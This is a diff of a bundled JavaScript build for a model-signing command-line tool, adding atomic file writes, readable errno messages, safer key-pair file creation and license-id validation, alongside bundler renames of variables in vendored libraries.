@@ -1202,7 +1202,7 @@ var require_command = __commonJS({
   "node_modules/commander/lib/command.js"(exports) {
     var EventEmitter = __require("node:events").EventEmitter;
     var childProcess = __require("node:child_process");
-    var path23 = __require("node:path");
+    var path25 = __require("node:path");
     var fs2 = __require("node:fs");
     var process2 = __require("node:process");
     var { Argument: Argument2, humanReadableArgName } = require_argument();
@@ -2215,9 +2215,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
         let launchWithNode = false;
         const sourceExt = [".js", ".ts", ".tsx", ".mjs", ".cjs"];
         function findFile(baseDir, baseName) {
-          const localBin = path23.resolve(baseDir, baseName);
+          const localBin = path25.resolve(baseDir, baseName);
           if (fs2.existsSync(localBin)) return localBin;
-          if (sourceExt.includes(path23.extname(baseName))) return void 0;
+          if (sourceExt.includes(path25.extname(baseName))) return void 0;
           const foundExt = sourceExt.find(
             (ext2) => fs2.existsSync(`${localBin}${ext2}`)
           );
@@ -2235,17 +2235,17 @@ Expecting one of '${allowedValues.join("', '")}'`);
           } catch {
             resolvedScriptPath = this._scriptPath;
           }
-          executableDir = path23.resolve(
-            path23.dirname(resolvedScriptPath),
+          executableDir = path25.resolve(
+            path25.dirname(resolvedScriptPath),
             executableDir
           );
         }
         if (executableDir) {
           let localFile = findFile(executableDir, executableFile);
           if (!localFile && !subcommand._executableFile && this._scriptPath) {
-            const legacyName = path23.basename(
+            const legacyName = path25.basename(
               this._scriptPath,
-              path23.extname(this._scriptPath)
+              path25.extname(this._scriptPath)
             );
             if (legacyName !== this._name) {
               localFile = findFile(
@@ -2256,7 +2256,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
           }
           executableFile = localFile || executableFile;
         }
-        launchWithNode = sourceExt.includes(path23.extname(executableFile));
+        launchWithNode = sourceExt.includes(path25.extname(executableFile));
         let proc;
         if (process2.platform !== "win32") {
           if (launchWithNode) {
@@ -3171,7 +3171,7 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @return {Command}
        */
       nameFromFilename(filename) {
-        this._name = path23.basename(filename, path23.extname(filename));
+        this._name = path25.basename(filename, path25.extname(filename));
         return this;
       }
       /**
@@ -3185,9 +3185,9 @@ Expecting one of '${allowedValues.join("', '")}'`);
        * @param {string} [path]
        * @return {(string|null|Command)}
        */
-      executableDir(path24) {
-        if (path24 === void 0) return this._executableDir;
-        this._executableDir = path24;
+      executableDir(path26) {
+        if (path26 === void 0) return this._executableDir;
+        this._executableDir = path26;
         return this;
       }
       /**
@@ -3490,11 +3490,11 @@ var init_esm = __esm({
 });
 
 // src/errors.ts
-function reject(code, message, path23) {
-  return new ModelsignError(code, message, path23 === void 0 ? { kind: "reject" } : { kind: "reject", path: path23 });
+function reject(code, message, path25) {
+  return new ModelsignError(code, message, path25 === void 0 ? { kind: "reject" } : { kind: "reject", path: path25 });
 }
-function usage(code, message, path23) {
-  return new ModelsignError(code, message, path23 === void 0 ? { kind: "usage" } : { kind: "usage", path: path23 });
+function usage(code, message, path25) {
+  return new ModelsignError(code, message, path25 === void 0 ? { kind: "usage" } : { kind: "usage", path: path25 });
 }
 function toFailure(e) {
   return e.path === void 0 ? { code: e.code, message: e.message } : { code: e.code, path: e.path, message: e.message };
@@ -3800,6 +3800,121 @@ var init_read_file = __esm({
         this.maxBytes = maxBytes;
       }
     };
+  }
+});
+
+// src/util/errno.ts
+import path from "node:path";
+function errnoWords(e) {
+  const c = errnoCode(e);
+  if (c === void 0) return e instanceof Error ? e.message : String(e);
+  const w2 = WORDS[c];
+  return w2 ? `${w2} (${c})` : c;
+}
+function writeFailureWords(e, file) {
+  if (errnoCode(e) === "ENOENT") return `directory ${path.dirname(file)} does not exist`;
+  return errnoWords(e);
+}
+var WORDS;
+var init_errno = __esm({
+  "src/util/errno.ts"() {
+    "use strict";
+    init_errors();
+    WORDS = {
+      ENOENT: "no such file or directory",
+      EACCES: "permission denied",
+      EPERM: "operation not permitted",
+      EEXIST: "already exists",
+      ENOTDIR: "a part of the path is not a directory",
+      EISDIR: "it is a directory",
+      ENOSPC: "no space left on the device",
+      EDQUOT: "disk quota exceeded",
+      EROFS: "read-only file system",
+      ENAMETOOLONG: "file name too long",
+      ELOOP: "too many levels of symbolic links",
+      EMFILE: "too many open files",
+      ENFILE: "too many open files in the system",
+      EBUSY: "resource busy",
+      EIO: "input/output error",
+      EXDEV: "cannot move across file systems",
+      ETXTBSY: "file busy"
+    };
+  }
+});
+
+// src/util/write-atomic.ts
+import { constants as constants2 } from "node:fs";
+import { access, mkdir, rename, stat, unlink, writeFile } from "node:fs/promises";
+import path2 from "node:path";
+async function writeAtomic(file, data, code = "WRITE_FAILED", label = file, opts = {}) {
+  if (opts.createDirs) await makeDirs(path2.dirname(file), code, label);
+  const tmp = path2.join(path2.dirname(file), `.${path2.basename(file)}.${process.pid}.${Date.now()}.tmp`);
+  let renaming = false;
+  try {
+    await writeFile(tmp, data, { flag: "wx", mode: 420 });
+    renaming = true;
+    await rename(tmp, file);
+  } catch (e) {
+    await unlink(tmp).catch(() => void 0);
+    const c = errnoCode(e);
+    const isDir = renaming && (c === "EISDIR" || c === "ENOTEMPTY" || c === "EEXIST");
+    throw usage(code, `cannot write ${label}: ${isDir ? `${file} is a directory` : writeFailureWords(e, file)}`);
+  }
+}
+async function makeDirs(dir, code = "WRITE_FAILED", label = dir, mode) {
+  try {
+    await mkdir(dir, { recursive: true, ...mode !== void 0 ? { mode } : {} });
+  } catch (e) {
+    const blocker = await firstExisting(dir);
+    if (blocker && !blocker.isDir) throw usage(code, `cannot write ${label}: ${blocker.path} is not a directory`);
+    throw usage(code, `cannot write ${label}: cannot create directory ${dir}: ${errnoWords(e)}`);
+  }
+}
+async function firstExisting(p2) {
+  let cur = p2;
+  for (; ; ) {
+    try {
+      const st2 = await stat(cur);
+      return { path: cur, isDir: st2.isDirectory() };
+    } catch (e) {
+      const c = errnoCode(e);
+      if (c !== "ENOENT" && c !== "ENOTDIR") return void 0;
+    }
+    const up = path2.dirname(cur);
+    if (up === cur) return void 0;
+    cur = up;
+  }
+}
+async function checkWritable(target, kind, code = "WRITE_FAILED", label = target) {
+  let st2;
+  try {
+    st2 = await stat(target);
+  } catch (e) {
+    const c = errnoCode(e);
+    if (c !== "ENOENT" && c !== "ENOTDIR") throw usage(code, `cannot write ${label}: ${errnoWords(e)}`);
+  }
+  if (st2) {
+    if (kind === "file" && st2.isDirectory()) throw usage(code, `cannot write ${label}: ${target} is a directory`);
+    if (kind === "dir" && !st2.isDirectory()) throw usage(code, `${label} is not a directory`);
+    return checkAccess(kind === "dir" ? target : path2.dirname(target), code, label);
+  }
+  const parent = await firstExisting(path2.dirname(target));
+  if (!parent) return;
+  if (!parent.isDir) throw usage(code, `cannot write ${label}: ${parent.path} is not a directory`);
+  return checkAccess(parent.path, code, label);
+}
+async function checkAccess(dir, code, label) {
+  try {
+    await access(dir, constants2.W_OK);
+  } catch (e) {
+    throw usage(code, `cannot write ${label}: ${errnoCode(e) === "EACCES" || errnoCode(e) === "EPERM" ? `permission denied in directory ${dir}` : errnoWords(e)}`);
+  }
+}
+var init_write_atomic = __esm({
+  "src/util/write-atomic.ts"() {
+    "use strict";
+    init_errors();
+    init_errno();
   }
 });
 
@@ -4548,6 +4663,8 @@ var init_encrypted = __esm({
 // src/keys/keyfile.ts
 var keyfile_exports = {};
 __export(keyfile_exports, {
+  checkKeyFilesFree: () => checkKeyFilesFree,
+  checkKeyPrefix: () => checkKeyPrefix,
   generateKeyPair: () => generateKeyPair,
   loadPrivateKey: () => loadPrivateKey,
   loadPublicKey: () => loadPublicKey,
@@ -4555,7 +4672,8 @@ __export(keyfile_exports, {
   writeKeyPair: () => writeKeyPair
 });
 import { createPrivateKey, createPublicKey, generateKeyPairSync, X509Certificate } from "node:crypto";
-import { writeFile, chmod } from "node:fs/promises";
+import { writeFile as writeFile2, chmod, lstat, unlink as unlink2 } from "node:fs/promises";
+import path3 from "node:path";
 async function readKeyText(file, what) {
   let buf;
   try {
@@ -4627,20 +4745,47 @@ function generateKeyPair(type) {
       return generateKeyPairSync("ec", { namedCurve: "P-384" });
   }
 }
+function checkKeyPrefix(prefix) {
+  const notPrefix = (p2) => p2 === "" || /[\\/]$/.test(p2) || [".", ".."].includes(path3.basename(p2));
+  const bad5 = () => usage("BAD_OPTION", `--out needs a path prefix such as keys/release (writes keys/release.key and keys/release.pub); got ${JSON.stringify(prefix)}`);
+  if (notPrefix(prefix)) throw bad5();
+  if (/\.(key|pub)$/i.test(path3.basename(prefix))) {
+    const stem = prefix.slice(0, -4);
+    if (notPrefix(stem)) throw bad5();
+    throw usage("BAD_OPTION", `--out is a prefix: give ${stem}, get ${stem}.key and ${stem}.pub (${prefix} would write ${prefix}.key)`);
+  }
+}
+async function checkKeyFilesFree(prefix) {
+  for (const f2 of [`${prefix}.key`, `${prefix}.pub`]) {
+    const taken = await lstat(f2).then(
+      () => true,
+      () => false
+    );
+    if (taken) throw usage("KEY_EXISTS", `refusing to overwrite existing key file ${f2}`);
+  }
+}
 async function writeKeyPair(prefix, type, passphrase) {
+  checkKeyPrefix(prefix);
+  await checkKeyFilesFree(prefix);
   const { privateKey, publicKey } = generateKeyPair(type);
   const pkcs8 = privateKey.export({ type: "pkcs8", format: "der" });
   const privText = passphrase === void 0 ? privateKey.export({ type: "pkcs8", format: "pem" }).toString() : (await encrypted()).encryptPrivateKey(pkcs8, passphrase);
   const privatePath = `${prefix}.key`;
   const publicPath = `${prefix}.pub`;
+  await makeDirs(path3.dirname(prefix), "KEY_WRITE_FAILED", `key files at ${prefix}`, 448);
+  let current = privatePath;
+  let wrotePrivate = false;
   try {
-    await writeFile(privatePath, privText, { mode: 384, flag: "wx" });
+    await writeFile2(privatePath, privText, { mode: 384, flag: "wx" });
+    wrotePrivate = true;
     await chmod(privatePath, 384);
-    await writeFile(publicPath, publicKeyPem(publicKey), { mode: 420, flag: "wx" });
+    current = publicPath;
+    await writeFile2(publicPath, publicKeyPem(publicKey), { mode: 420, flag: "wx" });
   } catch (e) {
+    if (wrotePrivate) await unlink2(privatePath).catch(() => void 0);
     const c = errnoCode(e);
-    if (c === "EEXIST") throw usage("KEY_EXISTS", `refusing to overwrite existing key file (${privatePath} or ${publicPath})`);
-    throw usage("KEY_WRITE_FAILED", `cannot write key files at ${prefix}: ${c ?? String(e)}`);
+    if (c === "EEXIST") throw usage("KEY_EXISTS", `refusing to overwrite existing key file ${current}`);
+    throw usage("KEY_WRITE_FAILED", `cannot write ${current}: ${writeFailureWords(e, current)}`);
   }
   return { privatePath, publicPath, type, encrypted: passphrase !== void 0 };
 }
@@ -4653,6 +4798,8 @@ var init_keyfile = __esm({
     init_passphrase();
     init_pem();
     init_read_file();
+    init_errno();
+    init_write_atomic();
     encrypted = () => Promise.resolve().then(() => (init_encrypted(), encrypted_exports));
     MAX_KEY_FILE = 1024 * 1024;
     VERIFY_NEEDS_PUBLIC = "verify needs the public key (.pub)";
@@ -5905,10 +6052,10 @@ var require_truncate = __commonJS({
   "node_modules/semver/functions/truncate.js"(exports, module) {
     "use strict";
     var parse2 = require_parse();
-    var constants6 = require_constants();
+    var constants7 = require_constants();
     var SemVer = require_semver();
     var truncate = (version, truncation, options) => {
-      if (!constants6.RELEASE_TYPES.includes(truncation)) {
+      if (!constants7.RELEASE_TYPES.includes(truncation)) {
         return null;
       }
       const clonedVersion = cloneInputVersion(version, options);
@@ -7148,7 +7295,7 @@ var require_semver2 = __commonJS({
   "node_modules/semver/index.js"(exports, module) {
     "use strict";
     var internalRe = require_re();
-    var constants6 = require_constants();
+    var constants7 = require_constants();
     var SemVer = require_semver();
     var identifiers = require_identifiers();
     var parse2 = require_parse();
@@ -7232,8 +7379,8 @@ var require_semver2 = __commonJS({
       re: internalRe.re,
       src: internalRe.src,
       tokens: internalRe.t,
-      SEMVER_SPEC_VERSION: constants6.SEMVER_SPEC_VERSION,
-      RELEASE_TYPES: constants6.RELEASE_TYPES,
+      SEMVER_SPEC_VERSION: constants7.SEMVER_SPEC_VERSION,
+      RELEASE_TYPES: constants7.RELEASE_TYPES,
       compareIdentifiers: identifiers.compareIdentifiers,
       rcompareIdentifiers: identifiers.rcompareIdentifiers
     };
@@ -7317,17 +7464,17 @@ var require_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    function visit_(key, node, visitor, path23) {
-      const ctrl = callVisitor(key, node, visitor, path23);
+    function visit_(key, node, visitor, path25) {
+      const ctrl = callVisitor(key, node, visitor, path25);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path23, ctrl);
-        return visit_(key, ctrl, visitor, path23);
+        replaceNode(key, path25, ctrl);
+        return visit_(key, ctrl, visitor, path25);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path23 = Object.freeze(path23.concat(node));
+          path25 = Object.freeze(path25.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = visit_(i, node.items[i], visitor, path23);
+            const ci2 = visit_(i, node.items[i], visitor, path25);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7338,13 +7485,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path23 = Object.freeze(path23.concat(node));
-          const ck = visit_("key", node.key, visitor, path23);
+          path25 = Object.freeze(path25.concat(node));
+          const ck = visit_("key", node.key, visitor, path25);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = visit_("value", node.value, visitor, path23);
+          const cv = visit_("value", node.value, visitor, path25);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7365,17 +7512,17 @@ var require_visit = __commonJS({
     visitAsync.BREAK = BREAK;
     visitAsync.SKIP = SKIP;
     visitAsync.REMOVE = REMOVE;
-    async function visitAsync_(key, node, visitor, path23) {
-      const ctrl = await callVisitor(key, node, visitor, path23);
+    async function visitAsync_(key, node, visitor, path25) {
+      const ctrl = await callVisitor(key, node, visitor, path25);
       if (identity.isNode(ctrl) || identity.isPair(ctrl)) {
-        replaceNode(key, path23, ctrl);
-        return visitAsync_(key, ctrl, visitor, path23);
+        replaceNode(key, path25, ctrl);
+        return visitAsync_(key, ctrl, visitor, path25);
       }
       if (typeof ctrl !== "symbol") {
         if (identity.isCollection(node)) {
-          path23 = Object.freeze(path23.concat(node));
+          path25 = Object.freeze(path25.concat(node));
           for (let i = 0; i < node.items.length; ++i) {
-            const ci2 = await visitAsync_(i, node.items[i], visitor, path23);
+            const ci2 = await visitAsync_(i, node.items[i], visitor, path25);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -7386,13 +7533,13 @@ var require_visit = __commonJS({
             }
           }
         } else if (identity.isPair(node)) {
-          path23 = Object.freeze(path23.concat(node));
-          const ck = await visitAsync_("key", node.key, visitor, path23);
+          path25 = Object.freeze(path25.concat(node));
+          const ck = await visitAsync_("key", node.key, visitor, path25);
           if (ck === BREAK)
             return BREAK;
           else if (ck === REMOVE)
             node.key = null;
-          const cv = await visitAsync_("value", node.value, visitor, path23);
+          const cv = await visitAsync_("value", node.value, visitor, path25);
           if (cv === BREAK)
             return BREAK;
           else if (cv === REMOVE)
@@ -7419,23 +7566,23 @@ var require_visit = __commonJS({
       }
       return visitor;
     }
-    function callVisitor(key, node, visitor, path23) {
+    function callVisitor(key, node, visitor, path25) {
       if (typeof visitor === "function")
-        return visitor(key, node, path23);
+        return visitor(key, node, path25);
       if (identity.isMap(node))
-        return visitor.Map?.(key, node, path23);
+        return visitor.Map?.(key, node, path25);
       if (identity.isSeq(node))
-        return visitor.Seq?.(key, node, path23);
+        return visitor.Seq?.(key, node, path25);
       if (identity.isPair(node))
-        return visitor.Pair?.(key, node, path23);
+        return visitor.Pair?.(key, node, path25);
       if (identity.isScalar(node))
-        return visitor.Scalar?.(key, node, path23);
+        return visitor.Scalar?.(key, node, path25);
       if (identity.isAlias(node))
-        return visitor.Alias?.(key, node, path23);
+        return visitor.Alias?.(key, node, path25);
       return void 0;
     }
-    function replaceNode(key, path23, node) {
-      const parent = path23[path23.length - 1];
+    function replaceNode(key, path25, node) {
+      const parent = path25[path25.length - 1];
       if (identity.isCollection(parent)) {
         parent.items[key] = node;
       } else if (identity.isPair(parent)) {
@@ -8047,10 +8194,10 @@ var require_Collection = __commonJS({
     var createNode = require_createNode();
     var identity = require_identity();
     var Node = require_Node();
-    function collectionFromPath(schema, path23, value) {
+    function collectionFromPath(schema, path25, value) {
       let v2 = value;
-      for (let i = path23.length - 1; i >= 0; --i) {
-        const k2 = path23[i];
+      for (let i = path25.length - 1; i >= 0; --i) {
+        const k2 = path25[i];
         if (typeof k2 === "number" && Number.isInteger(k2) && k2 >= 0) {
           const a = [];
           a[k2] = v2;
@@ -8069,7 +8216,7 @@ var require_Collection = __commonJS({
         sourceObjects: /* @__PURE__ */ new Map()
       });
     }
-    var isEmptyPath = (path23) => path23 == null || typeof path23 === "object" && !!path23[Symbol.iterator]().next().done;
+    var isEmptyPath = (path25) => path25 == null || typeof path25 === "object" && !!path25[Symbol.iterator]().next().done;
     var Collection = class extends Node.NodeBase {
       constructor(type, schema) {
         super(type);
@@ -8099,11 +8246,11 @@ var require_Collection = __commonJS({
        * be a Pair instance or a `{ key, value }` object, which may not have a key
        * that already exists in the map.
        */
-      addIn(path23, value) {
-        if (isEmptyPath(path23))
+      addIn(path25, value) {
+        if (isEmptyPath(path25))
           this.add(value);
         else {
-          const [key, ...rest] = path23;
+          const [key, ...rest] = path25;
           const node = this.get(key, true);
           if (identity.isCollection(node))
             node.addIn(rest, value);
@@ -8117,8 +8264,8 @@ var require_Collection = __commonJS({
        * Removes a value from the collection.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path23) {
-        const [key, ...rest] = path23;
+      deleteIn(path25) {
+        const [key, ...rest] = path25;
         if (rest.length === 0)
           return this.delete(key);
         const node = this.get(key, true);
@@ -8132,8 +8279,8 @@ var require_Collection = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path23, keepScalar) {
-        const [key, ...rest] = path23;
+      getIn(path25, keepScalar) {
+        const [key, ...rest] = path25;
         const node = this.get(key, true);
         if (rest.length === 0)
           return !keepScalar && identity.isScalar(node) ? node.value : node;
@@ -8151,8 +8298,8 @@ var require_Collection = __commonJS({
       /**
        * Checks if the collection includes a value with the key `key`.
        */
-      hasIn(path23) {
-        const [key, ...rest] = path23;
+      hasIn(path25) {
+        const [key, ...rest] = path25;
         if (rest.length === 0)
           return this.has(key);
         const node = this.get(key, true);
@@ -8162,8 +8309,8 @@ var require_Collection = __commonJS({
        * Sets a value in this collection. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path23, value) {
-        const [key, ...rest] = path23;
+      setIn(path25, value) {
+        const [key, ...rest] = path25;
         if (rest.length === 0) {
           this.set(key, value);
         } else {
@@ -10678,9 +10825,9 @@ var require_Document = __commonJS({
           this.contents.add(value);
       }
       /** Adds a value to the document. */
-      addIn(path23, value) {
+      addIn(path25, value) {
         if (assertCollection(this.contents))
-          this.contents.addIn(path23, value);
+          this.contents.addIn(path25, value);
       }
       /**
        * Create a new `Alias` node, ensuring that the target `node` has the required anchor.
@@ -10755,14 +10902,14 @@ var require_Document = __commonJS({
        * Removes a value from the document.
        * @returns `true` if the item was found and removed.
        */
-      deleteIn(path23) {
-        if (Collection.isEmptyPath(path23)) {
+      deleteIn(path25) {
+        if (Collection.isEmptyPath(path25)) {
           if (this.contents == null)
             return false;
           this.contents = null;
           return true;
         }
-        return assertCollection(this.contents) ? this.contents.deleteIn(path23) : false;
+        return assertCollection(this.contents) ? this.contents.deleteIn(path25) : false;
       }
       /**
        * Returns item at `key`, or `undefined` if not found. By default unwraps
@@ -10777,10 +10924,10 @@ var require_Document = __commonJS({
        * scalar values from their surrounding node; to disable set `keepScalar` to
        * `true` (collections are always returned intact).
        */
-      getIn(path23, keepScalar) {
-        if (Collection.isEmptyPath(path23))
+      getIn(path25, keepScalar) {
+        if (Collection.isEmptyPath(path25))
           return !keepScalar && identity.isScalar(this.contents) ? this.contents.value : this.contents;
-        return identity.isCollection(this.contents) ? this.contents.getIn(path23, keepScalar) : void 0;
+        return identity.isCollection(this.contents) ? this.contents.getIn(path25, keepScalar) : void 0;
       }
       /**
        * Checks if the document includes a value with the key `key`.
@@ -10791,10 +10938,10 @@ var require_Document = __commonJS({
       /**
        * Checks if the document includes a value at `path`.
        */
-      hasIn(path23) {
-        if (Collection.isEmptyPath(path23))
+      hasIn(path25) {
+        if (Collection.isEmptyPath(path25))
           return this.contents !== void 0;
-        return identity.isCollection(this.contents) ? this.contents.hasIn(path23) : false;
+        return identity.isCollection(this.contents) ? this.contents.hasIn(path25) : false;
       }
       /**
        * Sets a value in this document. For `!!set`, `value` needs to be a
@@ -10811,13 +10958,13 @@ var require_Document = __commonJS({
        * Sets a value in this document. For `!!set`, `value` needs to be a
        * boolean to add/remove the item from the set.
        */
-      setIn(path23, value) {
-        if (Collection.isEmptyPath(path23)) {
+      setIn(path25, value) {
+        if (Collection.isEmptyPath(path25)) {
           this.contents = value;
         } else if (this.contents == null) {
-          this.contents = Collection.collectionFromPath(this.schema, Array.from(path23), value);
+          this.contents = Collection.collectionFromPath(this.schema, Array.from(path25), value);
         } else if (assertCollection(this.contents)) {
-          this.contents.setIn(path23, value);
+          this.contents.setIn(path25, value);
         }
       }
       /**
@@ -12778,9 +12925,9 @@ var require_cst_visit = __commonJS({
     visit.BREAK = BREAK;
     visit.SKIP = SKIP;
     visit.REMOVE = REMOVE;
-    visit.itemAtPath = (cst, path23) => {
+    visit.itemAtPath = (cst, path25) => {
       let item = cst;
-      for (const [field, index] of path23) {
+      for (const [field, index] of path25) {
         const tok = item?.[field];
         if (tok && "items" in tok) {
           item = tok.items[index];
@@ -12789,23 +12936,23 @@ var require_cst_visit = __commonJS({
       }
       return item;
     };
-    visit.parentCollection = (cst, path23) => {
-      const parent = visit.itemAtPath(cst, path23.slice(0, -1));
-      const field = path23[path23.length - 1][0];
+    visit.parentCollection = (cst, path25) => {
+      const parent = visit.itemAtPath(cst, path25.slice(0, -1));
+      const field = path25[path25.length - 1][0];
       const coll = parent?.[field];
       if (coll && "items" in coll)
         return coll;
       throw new Error("Parent collection not found");
     };
-    function _visit(path23, item, visitor) {
-      let ctrl = visitor(item, path23);
+    function _visit(path25, item, visitor) {
+      let ctrl = visitor(item, path25);
       if (typeof ctrl === "symbol")
         return ctrl;
       for (const field of ["key", "value"]) {
         const token = item[field];
         if (token && "items" in token) {
           for (let i = 0; i < token.items.length; ++i) {
-            const ci2 = _visit(Object.freeze(path23.concat([[field, i]])), token.items[i], visitor);
+            const ci2 = _visit(Object.freeze(path25.concat([[field, i]])), token.items[i], visitor);
             if (typeof ci2 === "number")
               i = ci2 - 1;
             else if (ci2 === BREAK)
@@ -12816,10 +12963,10 @@ var require_cst_visit = __commonJS({
             }
           }
           if (typeof ctrl === "function" && field === "key")
-            ctrl = ctrl(item, path23);
+            ctrl = ctrl(item, path25);
         }
       }
-      return typeof ctrl === "function" ? ctrl(item, path23) : ctrl;
+      return typeof ctrl === "function" ? ctrl(item, path25) : ctrl;
     }
     exports.visit = visit;
   }
@@ -16619,6 +16766,7 @@ __export(licenses_exports, {
   MAX_LICENSE_LENGTH: () => MAX_LICENSE_LENGTH,
   displayId: () => displayId,
   evaluateLicense: () => evaluateLicense,
+  licenseProblem: () => licenseProblem,
   normalizeLicense: () => normalizeLicense
 });
 import { createRequire as createRequire2 } from "node:module";
@@ -16715,13 +16863,32 @@ function isNamedRef(ref) {
 function displayId(term) {
   return term.startsWith("LicenseRef-") ? term.slice("LicenseRef-".length) : term;
 }
-var import_spdx_expression_parse, import_spdx_satisfies, require2, fromParser, SPDX_IDS, HF, SPDX_EXCEPTIONS, MAX_LICENSE_LENGTH, MAX_CHOICES, ID_CHARS, NAMED_REFS;
+function licenseProblem(raw) {
+  const text = raw.trim();
+  const shown = JSON.stringify(clean(text, 100));
+  const expected = 'expected a Hugging Face license id (apache-2.0, mit, llama3, other), an SPDX expression ("MIT OR Apache-2.0"), or LicenseRef-NAME for a license of your own';
+  if (text === "") return `--license is empty; ${expected}`;
+  if (text.toLowerCase() === NO_LICENSE) return void 0;
+  const lic = normalizeLicense(text);
+  if (!lic.spdx) return `--license ${shown} is neither a known license id nor a valid SPDX expression, so a policy can only treat it as unknown; ${expected}`;
+  const ids = text.split(/(\(|\)|\s+)/).filter((t) => t !== "" && !/^\s+$/.test(t) && !["(", ")", "AND", "OR", "WITH"].includes(t.toUpperCase()));
+  const unknown = ids.filter((t) => canonicalId(t)?.known === false && !SPDX_EXCEPTIONS.has(t.toLowerCase()));
+  if (unknown.length > 0) {
+    const subject = unknown.length === 1 && unknown[0] === text ? `--license ${shown} is` : `--license ${shown}: ${unknown.map((u2) => JSON.stringify(clean(u2, 60))).join(", ")} ${unknown.length === 1 ? "is" : "are"}`;
+    return `${subject} neither a Hugging Face license id nor an SPDX license id, so a policy can only treat it as unknown; ${expected}`;
+  }
+  const family = ids.map((t) => t.toLowerCase()).find((t) => Object.hasOwn(FAMILIES, t));
+  if (family) return `--license ${shown}: "${family}" names a family of licenses, not one, and a policy can match it only by name; if you can, name the license exactly (${FAMILIES[family]})`;
+  return void 0;
+}
+var import_spdx_expression_parse, import_spdx_satisfies, require2, fromParser, SPDX_IDS, HF, SPDX_EXCEPTIONS, MAX_LICENSE_LENGTH, MAX_CHOICES, ID_CHARS, NAMED_REFS, FAMILIES;
 var init_licenses = __esm({
   "src/policy/licenses.ts"() {
     "use strict";
     import_spdx_expression_parse = __toESM(require_spdx_expression_parse(), 1);
     import_spdx_satisfies = __toESM(require_spdx_satisfies(), 1);
     init_hf_licenses();
+    init_one_line();
     require2 = createRequire2(import.meta.url);
     fromParser = createRequire2(require2.resolve("spdx-expression-parse"));
     SPDX_IDS = /* @__PURE__ */ new Map();
@@ -16736,6 +16903,13 @@ var init_licenses = __esm({
     NAMED_REFS = new Set(
       Object.entries(HF_LICENSES).filter(([id2, spdx]) => spdx === null && id2 !== "other" && id2 !== "unknown").map(([id2]) => refId(id2))
     );
+    FAMILIES = {
+      bsd: "bsd-2-clause or bsd-3-clause",
+      gpl: "gpl-2.0 or gpl-3.0",
+      lgpl: "lgpl-2.1 or lgpl-3.0",
+      cc: "cc-by-4.0, cc-by-sa-4.0, cc0-1.0, ...",
+      gfdl: "GFDL-1.3-only or GFDL-1.3-or-later"
+    };
   }
 });
 
@@ -16875,8 +17049,8 @@ __export(load_exports, {
   parsePolicyText: () => parsePolicyText,
   validatePolicy: () => validatePolicy
 });
-import { stat } from "node:fs/promises";
-import path from "node:path";
+import { stat as stat2 } from "node:fs/promises";
+import path4 from "node:path";
 function invalid(file, where, msg) {
   return new ModelsignError("POLICY_INVALID", `policy ${file}: ${where ? `${where}: ` : ""}${msg}`, { kind: "usage" });
 }
@@ -16904,7 +17078,7 @@ function describe(v2) {
 }
 function readTrust(r, v2, dir) {
   const o = r.object(v2, "trust", ["keys", "certificateChains", "identities"]);
-  const files = (key) => o[key] === void 0 ? [] : r.strings(o[key], `trust.${key}`).map((f2) => path.resolve(dir, f2));
+  const files = (key) => o[key] === void 0 ? [] : r.strings(o[key], `trust.${key}`).map((f2) => path4.resolve(dir, f2));
   const identities = [];
   if (o.identities !== void 0) {
     if (!Array.isArray(o.identities)) r.fail("trust.identities", `must be a list, got ${describe(o.identities)}`);
@@ -16951,7 +17125,7 @@ function readLicenseRule(r, v2, at2) {
 }
 function validatePolicy(doc, file) {
   const r = new Reader(file);
-  const dir = path.dirname(path.resolve(file));
+  const dir = path4.dirname(path4.resolve(file));
   const o = r.object(doc, "", ["apiVersion", "trust", "license", "lineage", "revoked", "formats"]);
   if (o.apiVersion === void 0) r.fail("apiVersion", `is required (apiVersion: ${POLICY_API_VERSION})`);
   if (o.apiVersion !== POLICY_API_VERSION) r.fail("apiVersion", `must be ${POLICY_API_VERSION}, got ${describe(o.apiVersion)}`);
@@ -17003,7 +17177,7 @@ function validatePolicy(doc, file) {
       formats.failOn = f2.failOn;
     }
   }
-  return { file: path.resolve(file), apiVersion: POLICY_API_VERSION, trust, license, lineage, revoked, formats, rules };
+  return { file: path4.resolve(file), apiVersion: POLICY_API_VERSION, trust, license, lineage, revoked, formats, rules };
 }
 function findDuplicateKey(node, at2) {
   if ((0, import_yaml.isMap)(node)) {
@@ -17051,7 +17225,7 @@ async function loadPolicy(file) {
     text = new TextDecoder("utf-8", { fatal: true }).decode(buf);
   } catch (e) {
     if (e instanceof NotRegularFile) {
-      const isDir = await stat(file).then((st2) => st2.isDirectory(), () => false);
+      const isDir = await stat2(file).then((st2) => st2.isDirectory(), () => false);
       throw new ModelsignError("POLICY_UNREADABLE", `cannot read policy ${file}: it ${isDir ? "is a directory, not a regular file" : "is not a regular file"}`, { kind: "usage" });
     }
     if (e instanceof FileTooLarge) throw invalid(file, "", `is larger than ${MAX_POLICY_BYTES} bytes`);
@@ -18639,7 +18813,7 @@ __export(trust_cert_exports, {
   certificateChainTrust: () => certificateChainTrust
 });
 import { X509Certificate as X509Certificate2 } from "node:crypto";
-import path2 from "node:path";
+import path5 from "node:path";
 async function loadRoots(file) {
   let buf;
   try {
@@ -18725,7 +18899,7 @@ function buildPath(leaf, intermediates, roots) {
     if (problem) throw reject("CERT_CHAIN_INVALID", `intermediate certificate "${name(current)}" ${problem}`);
     pathCerts.push(current);
   }
